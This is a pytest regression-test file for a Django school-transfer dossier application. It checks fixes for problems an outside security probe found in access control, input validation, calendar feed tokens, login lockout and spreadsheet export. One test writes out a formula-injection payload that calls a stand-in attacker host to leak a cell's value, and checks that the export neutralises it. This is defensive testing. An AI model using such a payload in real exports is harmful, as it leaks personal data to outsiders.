"""Regression tests for what the outside probe found: each failed before its fix."""

from __future__ import annotations

import io

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from overdracht.consent.models import GuardianReview, GuardianStatement
from overdracht.core.school_year import current_school_year
from overdracht.pupils import services as pupil_services
from overdracht.schools.services import class_group_teacher_add
from tests.conftest import World, client_for, dossier_written, make_user

SUPPORT_TEXT = "Korte instructie, dan zelf starten"


def _write_support_section(world: World, pupil_id: object) -> None:
    response = client_for(world.care_coordinator).post(
        reverse("dossiers:section_edit", args=[pupil_id, "support_needs"]),
        {"based_on_version": 0, "what_works": SUPPORT_TEXT},
    )
    assert response.status_code == 302


@pytest.mark.django_db
def test_a_mentor_of_another_class_sees_no_support_data(world: World) -> None:
    """The mentor of 1A asked for the dossier of a 1B pupil and got its support sections."""
    _write_support_section(world, world.classmate.pk)
    url = reverse("dossiers:dossier", args=[world.classmate.pk])
    assert client_for(world.mentor).get(url).status_code == 404
    assert SUPPORT_TEXT in client_for(world.other_mentor).get(url).content.decode()
    edit = reverse("dossiers:section_edit", args=[world.classmate.pk, "support_needs"])
    assert client_for(world.mentor).get(edit).status_code in {403, 404}


@pytest.mark.django_db
def test_a_teacher_sees_general_data_of_the_pupils_he_teaches_only(world: World) -> None:
    _write_support_section(world, world.pupil.pk)
    client_for(world.care_coordinator).post(
        reverse("dossiers:section_edit", args=[world.pupil.pk, "talents"]),
        {"based_on_version": 0, "talents": "Tekenen en techniek"},
    )
    teacher = make_user("wiskunde@test.example", "Wim Wiskunde")
    class_group_teacher_add(class_group=world.class_group, user=teacher, subject="wiskunde")
    url = reverse("dossiers:dossier", args=[world.pupil.pk])
    page = client_for(teacher).get(url).content.decode()
    assert "Tekenen en techniek" in page
    assert SUPPORT_TEXT not in page
    # The colleague teaches no class of this pupil: the role alone gives nothing.
    assert client_for(world.colleague).get(url).status_code == 404


@pytest.mark.django_db
def test_every_role_at_the_school_counts_not_only_the_first(world: World) -> None:
    """A mentor of another class who is also the care coordinator sees care data."""
    from overdracht.schools.services import membership_grant

    membership_grant(user=world.other_mentor, school=world.school, role="care_coordinator")
    client_for(world.care_coordinator).post(
        reverse("dossiers:section_edit", args=[world.pupil.pk, "diagnoses"]),
        {"based_on_version": 0, "diagnoses": "Dyslexieverklaring 2024"},
    )
    page = client_for(world.other_mentor).get(reverse("dossiers:dossier", args=[world.pupil.pk]))
    assert "Dyslexieverklaring 2024" in page.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("persona", ["guardian_user", "pupil_user"])
def test_families_get_404_on_staff_pages_never_an_error(world: World, persona: str) -> None:
    user = getattr(world, persona)
    pupil = world.pupil if persona == "guardian_user" else world.pupil_elsewhere
    client = client_for(user)
    for name in ["steps:pupil_steps", "dossiers:dossier", "passports:passport"]:
        assert client.get(reverse(name, args=[pupil.pk])).status_code == 404, name
    # Their own pages still open.
    assert client.get(reverse("portal:child", args=[pupil.pk])).status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("referral", ["abc", "1e3", "²", "-1", "99999999999999999999"])
def test_care_team_post_with_a_bad_referral_id_is_refused_cleanly(
    world: World, referral: str
) -> None:
    care = client_for(world.care_coordinator)
    url = reverse("care:agenda", args=[world.school.pk])
    response = care.post(url, {"action": "outcome", "referral": referral, "outcome": "x"})
    assert response.status_code in {302, 404}
    response = care.post(url, {"action": "meeting", "date": "31-02-2026"})
    assert response.status_code == 302
    assert "geldige datum" in care.get(url).content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("statement", ["²", "\u0661", "abc", "", "99999999999999999999"])
def test_statement_reply_with_a_bad_id_is_404(world: World, statement: str) -> None:
    transition = pupil_services.transition_create(
        pupil=world.pupil,
        kind="vo_vo",
        from_school=world.school,
        to_school=world.other_school,
        school_year=current_school_year() + 1,
    )
    dossier_written(world.pupil, world.school, world.care_coordinator)
    client_for(world.care_coordinator).post(reverse("dossiers:review_open", args=[world.pupil.pk]))
    assert GuardianReview.objects.filter(transition=transition).exists()
    response = client_for(world.care_coordinator).post(
        reverse("consent:statement_reply", args=[world.pupil.pk]),
        {"statement": statement, "text": "Dank u."},
    )
    assert response.status_code == 404
    assert not GuardianStatement.objects.exists()


@pytest.mark.django_db
def test_a_tip_that_looks_like_a_formula_is_written_as_text(world: World) -> None:
    formula = '=HYPERLINK("https://evil.example/?x="&A2,"Klik hier")'
    tips = "\n".join([formula, "+SUM(1,2)", "Geef de opdracht in korte stappen."])
    client_for(world.care_coordinator).post(
        reverse("passports:passport_edit", args=[world.pupil.pk]), {"tips": tips}
    )
    export = reverse("passports:class_overview_export", args=[world.class_group.pk, "xlsx"])
    content = client_for(world.mentor).get(export).content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    tip_cell = sheet["B2"]
    assert str(tip_cell.value).startswith("=HYPERLINK")
    assert tip_cell.quotePrefix


@pytest.mark.django_db
def test_the_calendar_address_is_hashed_rotates_and_ends_with_log_out_everywhere(
    world: World,
) -> None:
    from overdracht.worklist.models import CalendarFeed
    from tests.meetings.test_meetings import days_ahead, make_feed_address, plan

    plan(
        world,
        "vo_vo",
        starts_at=days_ahead(3),
        duration_minutes=45,
        place="Lokaal 12",
        staff=[world.other_school_user.pk],
    )
    user = world.other_school_user
    client = client_for(user)
    first = make_feed_address(client)
    token = first.removeprefix("/calendar/").removesuffix(".ics")
    stored = CalendarFeed.objects.get(user=user)
    assert token not in stored.token_hash
    assert len(stored.token_hash) == 64
    feed = client_for(None).get(first).content.decode()
    assert "J.H." in feed
    assert "Hof" not in feed  # initials unless the user opts in
    # Making a new address ends the old one; full names only when chosen.
    second = make_feed_address(client, full_names="on")
    assert client_for(None).get(first).status_code == 404
    assert "Jan van 't Hof" in client_for(None).get(second).content.decode()
    # "Log out everywhere" ends it too.
    client.post(reverse("accounts:logout_everywhere"))
    assert client_for(None).get(second).status_code == 404
    # The tasks page no longer prints an address on every visit.
    tasks = client_for(user).get(reverse("worklist:index")).content.decode()
    assert "/calendar/" not in tasks.replace("/calendar/address/", "")


@pytest.mark.django_db
def test_an_account_is_locked_after_the_ceiling_from_many_addresses(
    world: World, settings: object
) -> None:
    from django.test import Client

    from tests.conftest import PASSWORD

    setattr(settings, "OVERDRACHT_ACCOUNT_FAILURE_CEILING", 6)  # noqa: B010
    url = reverse("accounts:login")
    for i in range(6):  # one try from each of six addresses: under the per-address limit
        client = Client(REMOTE_ADDR=f"192.0.2.{i + 1}")
        response = client.post(url, {"email": world.mentor.email, "password": "fout"})
        assert response.status_code == 200
    right = Client(REMOTE_ADDR="198.51.100.7").post(
        url, {"email": world.mentor.email, "password": PASSWORD}
    )
    assert right.status_code == 429  # even the right password waits out the window
    assert "_auth_user_id" not in right.client.session
    # Another account is not touched.
    other = Client(REMOTE_ADDR="198.51.100.7").post(
        url, {"email": world.colleague.email, "password": PASSWORD}
    )
    assert other.status_code == 302


@pytest.mark.django_db
def test_a_search_over_the_length_limit_shows_an_error_and_no_pupils(world: World) -> None:
    url = reverse("pupils:school_pupils", args=[world.school.pk])
    page = client_for(world.mentor).get(url, {"q": "x" * 81}).content.decode()
    assert 'data-testid="search-refused"' in page
    assert "Hof" not in page
    assert "Hof" in client_for(world.mentor).get(url, {"q": "hof"}).content.decode()
